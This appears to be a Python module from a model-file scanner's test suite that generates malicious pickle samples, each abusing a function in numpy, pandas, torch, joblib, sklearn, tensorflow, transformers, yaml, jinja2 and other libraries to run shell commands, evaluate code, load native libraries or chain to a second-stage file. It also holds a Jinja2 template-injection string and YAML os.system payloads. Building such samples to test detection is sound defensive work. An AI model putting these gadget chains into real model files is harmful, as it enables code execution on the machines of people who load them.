"""Pickles that use functions of the libraries which models are made with to run code, commands or another pickle."""

from collections.abc import Iterator

from .assemble import Build, Call, New, Ref, method, planted, written
from .sample import CODE, COMMAND, MARKER, URL, Sample

__all__ = ["samples"]

IMPORTED = f"__import__('os').system('{COMMAND}')"
INNER = written(Call("posix.system", COMMAND))
WEIGHTS = {"w": [0.25, 0.5], "n_features_in_": 2}


def _numeric() -> Iterator[tuple[str, object]]:
    yield "numpy.testing runstring", Call("numpy.testing._private.utils.runstring", CODE, {})
    yield "numpy.f2py.crackfortran.myeval", Call("numpy.f2py.crackfortran.myeval", IMPORTED, {}, {})
    yield "numpy.f2py.crackfortran.getlincoef", Call("numpy.f2py.crackfortran.getlincoef", IMPORTED, {"x": 1})
    yield "numpy.f2py.crackfortran._eval_length", Call("numpy.f2py.crackfortran._eval_length", IMPORTED, {})
    yield "numpy.f2py.compile", Call("numpy.f2py.compile", "end", "m", f"; {COMMAND} #")
    yield "numpy.ctypeslib.load_library", Call("numpy.ctypeslib.load_library", "payload", ".")
    yield "numpy.distutils' exec_command", Call("numpy.distutils.exec_command.exec_command", COMMAND)
    yield "numpy.load with allow_pickle", Call("numpy.load", "stage2.npy", None, True)
    yield "numpy.testing.rundocs", Call("numpy.testing.rundocs", "stage2.py")
    yield "numpy.testing.measure", Call("numpy.testing.measure", CODE)
    vectorised = Call("numpy.vectorize", Ref("posix.system"))
    yield "numpy.vectorize of a function", Call(vectorised, COMMAND)
    yield "numpy.frompyfunc", Call(Call("numpy.frompyfunc", Ref("posix.system"), 1, 1), COMMAND)
    yield "numpy.fromiter of a map", Call("numpy.fromiter", Call("builtins.map", Ref("posix.system"), [COMMAND]), "i8")
    yield "numpy.loads, as it was once", Call("numpy.loads", INNER)
    yield "pandas.read_pickle of a file beside it", Call("pandas.read_pickle", "stage2.pkl")
    yield "pandas.io.common.get_handle", Call("pandas.io.common.get_handle", URL, "r")
    yield "pandas' apply", method(Call("pandas.Series", [COMMAND]), "apply", Ref("posix.system"))
    yield "sympy.sympify", Call("sympy.sympify", IMPORTED)
    yield "sympy.parsing parse_expr", Call("sympy.parsing.sympy_parser.parse_expr", IMPORTED)
    yield "networkx.read_gpickle", Call("networkx.read_gpickle", "stage2.gpickle")


def _learning() -> Iterator[tuple[str, object]]:
    yield "joblib.load of a file beside it", Call("joblib.load", "stage2.joblib")
    yield "joblib's cloudpickle", Call("joblib.externals.cloudpickle.loads", INNER)
    batch = Call(
        "joblib.parallel.BatchedCalls",
        [(Ref("posix.system"), (COMMAND,), {})],
        (Call("joblib._parallel_backends.SequentialBackend"), 1),
    )
    yield "joblib.parallel.BatchedCalls", Call(batch)
    transformer = New("sklearn.preprocessing._function_transformer.FunctionTransformer")
    state = {"func": Ref("posix.system"), "inverse_func": None, "validate": False, "accept_sparse": False,
             "check_inverse": False, "kw_args": None, "inv_kw_args": None, "feature_names_out": None}  # fmt: skip
    yield "FunctionTransformer of system", Build(transformer, state)
    yield (
        "FunctionTransformer of eval, in a list",
        [Build(transformer, {**state, "func": Ref("builtins.eval")}), WEIGHTS],
    )
    yield "os through joblib", Call(Call("builtins.getattr", Ref("joblib.parallel.os"), "system"), COMMAND)
    yield "torch.load of a file beside it", Call("torch.load", "stage2.bin")
    yield "torch.jit.load", Call("torch.jit.load", "stage2.pt")
    yield "torch.hub.load", Call("torch.hub.load", "someone/evil", "model")
    yield "torch.ops.load_library", Call(Ref("torch", "ops.load_library"), "./payload.so")
    yield "torch.classes.load_library", Call(Ref("torch", "classes.load_library"), "./payload.so")
    yield "torch.utils.collect_env.run", Call("torch.utils.collect_env.run", COMMAND)
    yield "torch.utils.collect_env.get_pip_packages", Call("torch.utils.collect_env.run_and_read_all",
                                                           Ref("torch.utils.collect_env.run"), COMMAND)  # fmt: skip
    yield (
        "torch.utils.cpp_extension.load_inline",
        Call("torch.utils.cpp_extension.load_inline", "m", "void f(){}  // runs a compiler"),
    )
    yield (
        "torch's ConfigModule.load_config",
        Call(Ref("torch.utils._config_module", "ConfigModule.load_config"), Ref("torch._dynamo.config"), INNER),
    )
    yield "torch's basichandlers", Call("torch.utils.data.datapipes.utils.decoder.basichandlers", "a.pkl", INNER)
    yield (
        "torch.jit.unsupported_tensor_ops.execWrapper",
        Call("torch.jit.unsupported_tensor_ops.execWrapper", CODE, {}, {}),
    )
    yield "torch.fx.graph_module._exec_with_source", Call("torch.fx.graph_module._exec_with_source", CODE, {})
    yield (
        "torch.fx's reduce_graph_module",
        Call("torch.fx.graph_module.reduce_graph_module", {"_code": "", "_graphmodule_cls_name": "G"}, CODE + "\n"),
    )
    shape = Call("torch.fx.experimental.symbolic_shapes.ShapeEnv")
    yield "ShapeEnv.evaluate_guards_expression", method(shape, "evaluate_guards_expression", IMPORTED, [1])
    yield "torch.distributed.rpc", Call(
        "torch.distributed.rpc.internal._run_function", Call("torch.distributed.rpc.internal.PythonUDF",
                                                             Ref("posix.system"), (COMMAND,), {})
    )  # fmt: skip
    yield (
        "torch.package.PackageImporter",
        method(Call("torch.package.PackageImporter", "stage2.pt"), "load_pickle", "model", "model.pkl"),
    )
    yield "torch.utils.bottleneck", Call("torch.utils.bottleneck.__main__.run_cprofile", CODE, {})
    yield "torch.storage._load_from_bytes", Call("torch.storage._load_from_bytes", INNER)
    yield "torch._inductor's codecache", Call(Ref("torch._inductor.codecache", "PyCodeCache.load"), CODE)
    yield (
        "torch.serialization.add_safe_globals",
        planted(Call("torch.serialization.add_safe_globals", [Ref("posix.system")]), WEIGHTS),
    )
    yield "tensorflow.raw_ops.WriteFile", Call(Ref("tensorflow", "io.write_file"), "/tmp/vallum-none", "x")
    yield "tensorflow.load_library", Call("tensorflow.load_library", "./payload.so")
    yield "keras.models.load_model", Call("keras.models.load_model", "stage2.keras", None, True, False)
    yield "mlflow.pyfunc.load_model", Call("mlflow.pyfunc.load_model", "./stage2")
    yield (
        "transformers' dynamic_module_utils",
        Call("transformers.dynamic_module_utils.get_class_from_dynamic_module", "m.Model", "someone/evil"),
    )


def _tools() -> Iterator[tuple[str, object]]:
    yield "yaml.unsafe_load", Call("yaml.unsafe_load", f"!!python/object/apply:os.system ['{COMMAND}']")
    yield (
        "yaml.load with a loader",
        Call("yaml.load", f"!!python/object/apply:os.system ['{COMMAND}']", Ref("yaml.Loader")),
    )
    template = "{{ cycler.__init__.__globals__.os.system('" + COMMAND + "') }}"
    yield "jinja2.Template", method(Call("jinja2.Template", template), "render")
    yield (
        "jinja2.Environment.from_string",
        method(method(Call("jinja2.Environment"), "from_string", template), "render"),
    )
    yield "setuptools.sandbox.run_setup", Call("setuptools.sandbox.run_setup", "setup.py", ["install"])
    yield "cffi", method(Call("cffi.FFI"), "dlopen", "./payload.so")
    yield "IPython.utils.process.system", Call("IPython.utils.process.system", COMMAND)
    yield "IPython's shell", method(Call("IPython.core.interactiveshell.InteractiveShell"), "run_cell", CODE)
    yield "psutil.Popen", Call("psutil.Popen", ["touch", MARKER])
    yield "pexpect.spawn", Call("pexpect.spawn", COMMAND)
    yield "invoke.run", Call("invoke.run", COMMAND)
    yield "sh.Command", Call(Call("sh.Command", "touch"), "x")
    yield (
        "jsonpickle.decode",
        Call("jsonpickle.decode", '{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}'),
    )
    yield "hydra.utils.instantiate", Call("hydra.utils.instantiate", {"_target_": "os.system", "command": COMMAND})
    yield "gensim.utils.unpickle", Call("gensim.utils.unpickle", "stage2.pkl")
    yield "nltk.data.load", Call("nltk.data.load", "file:stage2.pickle")
    yield "ray.cloudpickle", Call("ray.cloudpickle.loads", INNER)


def samples() -> Iterator[Sample]:
    for group, made in (
        ("pickle: numeric libraries", _numeric()),
        ("pickle: learning libraries", _learning()),
        ("pickle: other packages", _tools()),
    ):
        for name, value in made:
            yield Sample(group, name, {"model.pkl": written(value)}, proof="" if "stage2" in name else "pickle")
